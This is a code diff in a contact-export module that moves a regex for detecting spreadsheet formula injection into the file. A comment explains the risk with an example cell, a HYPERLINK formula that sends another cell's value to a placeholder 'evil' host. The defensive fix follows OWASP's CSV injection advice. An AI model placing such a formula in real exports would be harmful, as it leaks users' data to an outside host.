@@ -6,7 +6,10 @@
 // Contacts are anyone's input (a signup form fills the variables): a cell such as `=HYPERLINK("https://evil/?"&A1)`
 // would be a formula when the export is opened in a spreadsheet. As OWASP's "CSV Injection" page advises, a cell that
 // starts with =, +, -, @, a tab or a carriage return gets a leading apostrophe, which spreadsheets read as "text".
-import { FORMULA_START, type VariableValue } from './read-contacts.js'
+import type { VariableValue } from './read-contacts.js'
+
+/** A cell a spreadsheet reads as a formula (OWASP's list), after any apostrophes the export put before it. */
+export const FORMULA_START = /^'*[=+\-@\t\r]/
 
 export interface ExportedContact {
   email: string
